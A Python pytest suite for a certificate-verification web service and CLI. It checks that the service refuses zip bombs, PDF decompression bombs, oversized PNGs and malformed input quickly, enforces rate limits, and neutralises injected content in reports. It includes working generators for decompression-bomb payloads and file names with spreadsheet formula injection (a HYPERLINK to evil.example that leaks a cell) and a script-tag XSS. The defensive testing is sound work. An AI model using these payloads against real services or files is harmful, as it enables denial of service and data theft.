"""A public verifier nobody can knock over: each attack found in review, posted to the real
endpoint, is refused fast (time measured), cheaply (memory measured) and by name (413 naming the
bound), while /healthz keeps answering; clients are rate limited (429 + Retry-After) except
authenticated issuers; reports neutralise spreadsheet formulas; one bad document is one line."""

from __future__ import annotations

import csv
import io
import os
import struct
import subprocess
import sys
import threading
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from flask import Flask
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, EncodedStreamObject, NameObject
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.serving import make_server
from werkzeug.test import encode_multipart

from certifier.service.app import create_app
from tests.conftest import Chain, free_port, write_docs
from tests.pdfs import certified_copy

MiB = 1 << 20
SECONDS = 5.0  # generous: each refusal takes well under a second
MEMORY = 200 * MiB  # generous: the attacks cost 1.4–1.7 GB before the bounds


# ---------------------------------------------------------------- the attacks, made cheaply


def deflated_run(byte: int, mib: int, *, zlib_wrapped: bool = False) -> bytes:
    """`mib` MiB of `byte`, deflated about 1000:1 without compressing them all: fully flushed
    blocks are independent, so one block per MiB repeats."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes([byte]) * MiB
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    body = block * mib + c.flush(zlib.Z_FINISH)
    if not zlib_wrapped:
        return body
    adler = 1
    for _ in range(mib):
        adler = zlib.adler32(chunk, adler)
    return b"\x78\xda" + body + struct.pack(">I", adler)


def zip_of(entries: list[tuple[str, bytes, int]]) -> bytes:
    """A ZIP of raw-deflated entries (name, deflated, declared size): the size may lie."""
    out, central = bytearray(), bytearray()
    for name, deflated, size in entries:
        raw = name.encode()
        fields = (20, 0, 8, 0, 0, 0, len(deflated), size, len(raw), 0)
        central += struct.pack("<4s2H4H3L5H2L", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, len(out)) + raw
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields) + raw + deflated
    count = len(entries)
    return bytes(out + central + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), len(out), 0))


def flate_bomb_pdf(streams: int, mib: int) -> bytes:
    """A certified PDF (receipt attached, seal stamped) whose page shows `streams` Flate content
    streams of `mib` MiB each, 1000:1 compressed."""
    data = deflated_run(ord(" "), mib, zlib_wrapped=True)
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    contents = ArrayObject()
    for _ in range(streams):
        stream = EncodedStreamObject()
        stream._data = data
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
        contents.append(writer._add_object(stream))
    page[NameObject("/Contents")] = contents
    out = io.BytesIO()
    writer.write(out)
    return certified_copy(out.getvalue())


def png_of(width: int, height: int) -> bytes:
    """A white 1-bit PNG: a few kilobytes declaring width × height pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    c = zlib.compressobj(9)
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    idat = b"".join(c.compress(row) for _ in range(height)) + c.flush()
    header = struct.pack(">2I5B", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """1 MB posted, 1 GiB once inflated, declared honestly."""
    return zip_of([("diploma.pdf", deflated_run(0, 1024), 1 << 30)])


@pytest.fixture(scope="module")
def pdf_bomb() -> bytes:
    """Ten 70 MB Flate streams (under pypdf's own 75 MB default): 1.68 GB and 21 s before."""
    return flate_bomb_pdf(10, 70)


# ---------------------------------------------------------------- measuring


def measured(action: Callable[[], Any]) -> tuple[Any, float, int]:
    """What `action` returns, the seconds it took and the peak of Python memory it allocated."""
    tracemalloc.start()
    start = time.perf_counter()
    try:
        result = action()
    finally:
        seconds = time.perf_counter() - start
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return result, seconds, peak


def child_peak(args: list[str]) -> tuple[int, str, int]:
    """Run a command; its exit code, stderr and peak resident memory in bytes (its own, by wait4)."""
    proc = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=dict(os.environ))
    assert proc.stderr is not None
    stderr = proc.stderr.read().decode()
    proc.stderr.close()
    _, status, usage = os.wait4(proc.pid, 0)
    proc.returncode = os.waitstatus_to_exitcode(status)
    return proc.returncode, stderr, usage.ru_maxrss * 1024


@pytest.fixture
def app(chain: Chain, db_url: str, tmp_path: Path) -> Iterator[Flask]:
    """The service on a database of its own, where no anchoring worker ever beats."""
    app = create_app(
        {
            "TESTING": True,
            "SCEAU_RPC_URL": chain.url,
            "SCEAU_DATABASE_URL": db_url,
            "SCEAU_STORAGE": str(tmp_path / "s"),
        }
    )
    yield app
    app.extensions["sceau"].dispose()


def multipart(*fields: tuple[str, str | tuple[str, bytes]]) -> dict[str, Any]:
    """`client.post` keywords for a form of (name, text) and (name, (filename, bytes)) fields, encoded
    in memory (the test client spools big bodies to a temporary file that it never closes)."""
    values = MultiDict(
        [(k, FileStorage(io.BytesIO(v[1]), filename=v[0]) if isinstance(v, tuple) else v) for k, v in fields]
    )
    boundary, body = encode_multipart(values)
    return {"data": body, "content_type": f"multipart/form-data; boundary={boundary}"}


def post_archive(client: Any, archive: bytes, fmt: str = "json") -> Any:
    return client.post(f"/api/v1/verify/bulk?format={fmt}", **multipart(("archive", ("dossiers.zip", archive))))


def post_file(client: Any, url: str, data: bytes, field: str = "file", name: str = "diploma.pdf") -> Any:
    return client.post(url, **multipart((field, (name, data))))


def assert_healthy(client: Any) -> None:
    """/healthz answers at once: 503 "degraded", the issuer service having no anchoring worker on
    this test's database, yet alive and serving (its trust anchors said)."""
    start = time.perf_counter()
    response = client.get("/healthz")
    assert response.status_code == 503 and response.get_json()["status"] == "degraded", response.text
    assert response.get_json()["trustAnchors"]
    assert time.perf_counter() - start < 1.0


# ---------------------------------------------------------------- bulk archives


def test_a_zip_bomb_posted_to_bulk_is_refused_fast(app: Flask, zip_bomb: bytes) -> None:
    client = app.test_client()
    response, seconds, peak = measured(lambda: post_archive(client, zip_bomb))
    assert response.status_code == 413, response.text
    body = response.get_json()
    assert body["limit"]["name"] == "SCEAU_MAX_BULK_EXPANDED_BYTES" and "'archive'" in body["error"]
    assert seconds < SECONDS and peak < MEMORY, (seconds, peak)
    assert_healthy(client)


def test_a_zip_lying_about_its_sizes_or_stuffed_with_entries_gets_no_further(app: Flask) -> None:
    client = app.test_client()
    liar = zip_of([(f"d{i}.pdf", deflated_run(0, 256), 1000) for i in range(4)])  # 1 GiB declared as 4 KB
    response, seconds, peak = measured(lambda: post_archive(client, liar))
    # inflating stops at each entry's declared size, where its CRC no longer matches: not a ZIP
    assert response.status_code == 422 and "'archive'" in response.get_json()["error"], response.text
    assert seconds < SECONDS and peak < MEMORY, (seconds, peak)

    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as zf:
        for i in range(5000):  # each parsed entry costs ~500 bytes: 100 MB of them would cost 1 GB
            zf.writestr(f"{i}.pdf", b"")
    response, seconds, _ = measured(lambda: post_archive(client, many.getvalue()))
    assert response.status_code == 413 and response.get_json()["limit"]["name"] == "SCEAU_MAX_BULK_ITEMS"
    assert seconds < SECONDS
    assert_healthy(client)


def test_bulk_bounds_are_settings_and_hold_in_the_cli(
    chain: Chain, sceau: Any, zip_bomb: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = create_app({"TESTING": True, "SCEAU_RPC_URL": chain.url, "SCEAU_MAX_BULK_ITEMS": "2"})
    files = [("file", (f"d{i}.pdf", b"%PDF-1.7 x")) for i in range(3)]
    response = app.test_client().post("/api/v1/verify/bulk", **multipart(*files))
    assert response.status_code == 413 and response.get_json()["limit"] == {"name": "SCEAU_MAX_BULK_ITEMS", "max": 2}
    app.extensions["sceau"].dispose()

    bomb = tmp_path / "bomb.zip"
    bomb.write_bytes(zip_bomb)
    result = sceau("verify", "--bulk", bomb)
    assert result.exit_code == 4 and "SCEAU_MAX_BULK_EXPANDED_BYTES" in result.stderr
    write_docs(tmp_path / "folder", 3)
    monkeypatch.setenv("SCEAU_MAX_BULK_ITEMS", "2")
    result = sceau("verify", "--bulk", tmp_path / "folder")
    assert result.exit_code == 4 and "SCEAU_MAX_BULK_ITEMS" in result.stderr
    monkeypatch.setenv("SCEAU_MAX_BULK_ITEMS", "many")
    result = sceau("verify", "--bulk", tmp_path / "folder")
    assert result.exit_code == 4 and "SCEAU_MAX_BULK_ITEMS='many' is not a whole number" in result.stderr


# ---------------------------------------------------------------- certified PDFs


def test_a_pdf_whose_streams_inflate_to_gigabytes_is_refused_fast(app: Flask, pdf_bomb: bytes) -> None:
    client = app.test_client()
    response, seconds, peak = measured(lambda: post_file(client, "/api/v1/verify", pdf_bomb))
    assert response.status_code == 413, response.text
    body = response.get_json()
    assert body["limit"] == {"name": "SCEAU_MAX_STREAM_BYTES", "max": 32 * MiB} and "'file'" in body["error"]
    assert seconds < SECONDS and peak < MEMORY, (seconds, peak)

    many_smaller = flate_bomb_pdf(10, 20)  # each stream under the cap, 400 MiB in all (twice: original, copy)
    response, seconds, peak = measured(lambda: post_file(client, "/api/v1/verify", many_smaller))
    assert response.status_code == 413 and response.get_json()["limit"]["name"] == "SCEAU_MAX_PDF_DECODED_BYTES"
    assert seconds < SECONDS and peak < MEMORY, (seconds, peak)

    page = post_file(client, "/verify?lang=en", pdf_bomb)
    assert page.status_code == 413 and "SCEAU_MAX_STREAM_BYTES" in page.text
    assert_healthy(client)


def test_the_cli_refuses_the_same_pdf_by_name(sceau: Any, pdf_bomb: bytes, tmp_path: Path) -> None:
    path = tmp_path / "bomb.certified.pdf"
    path.write_bytes(pdf_bomb)
    result = sceau("verify", path)
    assert result.exit_code == 4 and "SCEAU_MAX_STREAM_BYTES" in result.stderr


# ---------------------------------------------------------------- seal pictures


def test_a_seal_picture_of_144_million_pixels_is_refused_before_decoding(
    app: Flask, chain: Chain, tmp_path: Path
) -> None:
    client = app.test_client()
    for side in (12_000, 14_000):  # 144 Mpx: 1 GB and 11 s before; 196 Mpx: Pillow's own error, a 500 before
        picture = png_of(side, side)
        assert len(picture) < 64 * 1024
        response, seconds, _ = measured(
            lambda p=picture: post_file(client, "/verify?lang=en", p, "seal_image", "s.png")
        )
        assert response.status_code == 413 and "SCEAU_MAX_IMAGE_PIXELS" in response.text
        assert seconds < SECONDS
    assert_healthy(client)

    # memory, in a process of its own (Pillow's buffers are not Python's): against a small picture
    exe = str(Path(sys.executable).parent / "sceau-verify")
    small, big = tmp_path / "small.png", tmp_path / "big.png"
    small.write_bytes(png_of(400, 400))
    big.write_bytes(png_of(12_000, 12_000))
    code, _, baseline = child_peak([exe, "--seal-image", str(small)])
    assert code == 4  # no seal in a white picture
    start = time.perf_counter()
    code, stderr, peak = child_peak([exe, "--seal-image", str(big)])
    assert code == 4 and "SCEAU_MAX_IMAGE_PIXELS" in stderr and "12000×12000" in stderr
    assert time.perf_counter() - start < 30  # a child process: imports included
    assert peak - baseline < MEMORY, (baseline, peak)


# ---------------------------------------------------------------- reports


def test_file_names_cannot_inject_formulas_or_markup_into_reports(app: Flask) -> None:
    client = app.test_client()
    names = ['=HYPERLINK("http://evil.example/?"&A1,"open").pdf', "+1+2.pdf", "-2+3.pdf", "@SUM(A1).pdf"]
    names += ["\tx.pdf", "<script>alert(1)</script>.pdf"]
    files = [("file", (n, b"%PDF-1.7 " + n.encode())) for n in names]
    for fmt in ("csv", "html"):
        response = client.post(f"/api/v1/verify/bulk?format={fmt}", **multipart(*files))
        assert response.status_code == 200
        if fmt == "csv":
            cells = [row["file"] for row in csv.DictReader(io.StringIO(response.text))]
            assert len(cells) == len(names)
            assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
            assert "'=HYPERLINK(" in response.text
        else:
            assert "<script>" not in response.text and "&lt;script&gt;" in response.text
            assert "&#x27;=HYPERLINK(" in response.text


def test_one_bad_document_is_one_line_of_the_report(
    chain: Chain, sceau: Any, issuer: str, app: Flask, pdf_bomb: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import verifier.pdf

    [good] = write_docs(tmp_path, 1)
    assert sceau("issue", "--issuer", issuer, good).exit_code == 0
    receipt = good.with_name(good.name + ".receipt.json").read_bytes()
    real = verifier.pdf._open_certified

    def flaky(data: bytes) -> Any:
        if b"EXPLODE" in data:
            raise RuntimeError("something pypdf never meant to raise")
        return real(data)

    monkeypatch.setattr(verifier.pdf, "_open_certified", flaky)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("good.pdf", good.read_bytes())
        zf.writestr("good.pdf.receipt.json", receipt)
        zf.writestr("garbled.pdf", b"%PDF-1.7 receipt below is not UTF-8")
        zf.writestr("garbled.pdf.receipt.json", b"\xff\xfe{")
        zf.writestr("deep.pdf", b"%PDF-1.7 deep")
        zf.writestr("deep.pdf.receipt.json", b"[" * 50_000)  # a RecursionError in json, before
        zf.writestr("unreadable.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog >> garbage %%EOF")
        zf.writestr("explodes.pdf", b"%PDF-1.7 EXPLODE")
        zf.writestr("bomb.pdf", pdf_bomb)
    response = post_archive(app.test_client(), buf.getvalue())
    assert response.status_code == 200, response.text
    verdicts = {d["file"]: d for d in response.get_json()["documents"]}
    assert verdicts["good.pdf"]["verdict"] == "valid"
    assert {k: v["verdict"] for k, v in verdicts.items() if k != "good.pdf"} == dict.fromkeys(
        ("garbled.pdf", "deep.pdf", "unreadable.pdf", "explodes.pdf", "bomb.pdf"), "error"
    )
    assert "UTF-8" in verdicts["garbled.pdf"]["error"] and "malformed receipt" in verdicts["deep.pdf"]["error"]
    assert "RuntimeError" in verdicts["explodes.pdf"]["error"]
    assert "SCEAU_MAX_STREAM_BYTES" in verdicts["bomb.pdf"]["error"]

    # the chain unreachable: every line says so, the report is still made
    offline = create_app({"TESTING": True, "SCEAU_RPC_URL": f"http://127.0.0.1:{free_port()}"})
    response = post_archive(offline.test_client(), buf.getvalue(), "csv")
    assert response.status_code == 200
    rows = {r["file"]: r for r in csv.DictReader(io.StringIO(response.text))}
    assert rows["good.pdf"]["verdict"] == "error" and len(rows) == 6
    offline.extensions["sceau"].dispose()


# ---------------------------------------------------------------- rate limits


def test_clients_are_rate_limited_but_issuers_are_not(chain: Chain, db_url: str, issuer: str, tmp_path: Path) -> None:
    from certifier.service.auth import create_token, parse_scopes

    app = create_app(
        {
            "TESTING": True,
            "RATELIMIT_ENABLED": True,  # off under TESTING unless a test turns them on
            "SCEAU_RPC_URL": chain.url,
            "SCEAU_DATABASE_URL": db_url,
            "SCEAU_STORAGE": str(tmp_path / "s"),
            "SCEAU_RATE_LIMIT_VERIFY": "3/minute",
            "SCEAU_RATE_LIMIT_BULK": "1/minute",
        }
    )
    client = app.test_client()
    digest = {"sha256": "00" * 32, "receipt": {}}
    assert [client.post("/api/v1/verify", json=digest).status_code for _ in range(3)] == [200] * 3
    refused = client.post("/api/v1/verify", json=digest)
    assert refused.status_code == 429 and "3 per 1 minute" in refused.get_json()["error"]
    assert 0 < int(refused.headers["Retry-After"]) <= 60
    page = client.post("/verify?lang=en", data={"seal": "SC1:X"})  # the page shares the budget
    assert page.status_code == 429 and "Too many verifications" in page.text and "Retry-After" in page.headers
    assert client.post("/api/v1/verify/bulk", data={}, content_type="multipart/form-data").status_code == 422
    assert client.post("/api/v1/verify/bulk", data={}, content_type="multipart/form-data").status_code == 429
    # never limited: 503 "degraded" each time (no anchoring worker on this test's database), no 429
    assert [client.get("/healthz").status_code for _ in range(10)] == [503] * 10

    with app.extensions["sceau"].sessions() as s:
        _, secret = create_token(s, issuer, parse_scopes("read"))
        s.commit()
    issuer_headers = {"Authorization": f"Bearer {secret}"}
    statuses = {client.post("/api/v1/verify", json=digest, headers=issuer_headers).status_code for _ in range(10)}
    assert statuses == {200}
    forged = {"Authorization": "Bearer not-a-token"}
    assert client.post("/api/v1/verify", json=digest, headers=forged).status_code == 429
    app.extensions["sceau"].dispose()

    unlimited = create_app(
        {"TESTING": True, "RATELIMIT_ENABLED": True, "SCEAU_RPC_URL": chain.url, "SCEAU_RATE_LIMIT_VERIFY": ""}
    )
    client = unlimited.test_client()
    assert {client.post("/api/v1/verify", json=digest).status_code for _ in range(10)} == {200}
    unlimited.extensions["sceau"].dispose()

    with pytest.raises(Exception, match="SCEAU_RATE_LIMIT_BULK='lots' is not a rate"):
        create_app({"TESTING": True, "SCEAU_RPC_URL": chain.url, "SCEAU_RATE_LIMIT_BULK": "lots"})


# ---------------------------------------------------------------- liveness under attack, malformed input


def test_healthz_answers_while_bombs_are_posted(app: Flask, zip_bomb: bytes, pdf_bomb: bytes) -> None:
    port = free_port()
    server = make_server("127.0.0.1", port, app, threaded=True)
    serving = threading.Thread(target=server.serve_forever, daemon=True)
    serving.start()
    base = f"http://127.0.0.1:{port}"
    statuses: list[int] = []

    def attack() -> None:
        for _ in range(3):
            r = requests.post(base + "/api/v1/verify/bulk", files={"archive": ("a.zip", zip_bomb)}, timeout=60)
            statuses.append(r.status_code)
            r = requests.post(base + "/api/v1/verify", files={"file": ("b.pdf", pdf_bomb)}, timeout=60)
            statuses.append(r.status_code)

    try:
        attacker = threading.Thread(target=attack)
        attacker.start()
        latencies = []
        while attacker.is_alive():
            start = time.perf_counter()
            assert requests.get(base + "/healthz", timeout=5).status_code == 503  # degraded: no worker, alive
            latencies.append(time.perf_counter() - start)
            time.sleep(0.05)
        attacker.join()
    finally:
        server.shutdown()
        serving.join(5)
    assert statuses == [413] * 6
    assert latencies and max(latencies) < 2.0, latencies


@pytest.mark.parametrize(
    ("url", "kwargs", "field", "status"),
    [
        ("/api/v1/verify", {"data": b"hello", "content_type": "text/plain"}, "'file'", 400),
        (
            "/api/v1/verify",
            {"data": b"--x\r\nbroken", "content_type": "multipart/form-data; boundary=x"},
            "'file'",
            400,
        ),
        ("/api/v1/verify", {"data": b"[" * 10_000, "content_type": "application/json"}, "JSON", 400),
        ("/api/v1/verify", {"data": b"\xff", "content_type": "application/json"}, "JSON", 400),
        ("/api/v1/verify", {"json": {"sha256": 5, "receipt": {}}}, "sha256", 400),
        ("/api/v1/verify", {"json": {"sha256": "zz" * 32, "receipt": {}}}, "sha256", 400),
        ("/api/v1/verify", {"data": b"{}" + b" " * 200_000, "content_type": "application/json"}, "larger", 413),
        ("/api/v1/verify", multipart(("file", ("big.pdf", b"x" * (5 * MiB)))), "SCEAU_MAX_UPLOAD_BYTES", 413),
        (
            "/api/v1/verify",
            multipart(("file", ("a.pdf", b"%PDF-1.7 x")), ("receipt", ("r", b"[" * 50_000))),
            None,
            200,
        ),
        ("/api/v1/verify/bulk?format=xml", multipart(), "format", 400),
        ("/api/v1/verify/bulk", multipart(("archive", ("a.zip", b"not a zip"))), "'archive'", 422),
        ("/api/v1/verify/bulk", multipart(("archive", ("a.zip", b"PK\x05\x06" + bytes(18)))), None, 200),
        ("/verify", multipart(("seal_image", ("s.gif", b"GIF89a broken"))), None, 200),
        ("/verify", multipart(("seal_image", ("s.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n"))), None, 200),
        ("/verify", multipart(("seal", "SC1:" + "A" * 100_000)), None, 200),
        ("/verify?lang=xx", multipart(("file", ("a.pdf", b"%PDF-1.7\n%%EOF"))), None, 200),
    ],
)
def test_no_malformed_input_makes_a_500(
    chain: Chain, tmp_path: Path, url: str, kwargs: dict[str, Any], field: str | None, status: int
) -> None:
    """Each malformed input gets its one answer: 400/413/422 naming what is wrong, or 200 with an
    error verdict (or the page) where the input is a document that cannot be verified."""
    app = create_app(
        {
            "TESTING": True,
            "SCEAU_RPC_URL": chain.url,
            "SCEAU_STORAGE": str(tmp_path / "s"),
            "SCEAU_MAX_UPLOAD_BYTES": str(4 * MiB),
        }
    )
    response = app.test_client().post(url, **kwargs)
    assert response.status_code == status, (response.status_code, response.text[:300])
    if field is not None:
        assert field in response.text
    app.extensions["sceau"].dispose()
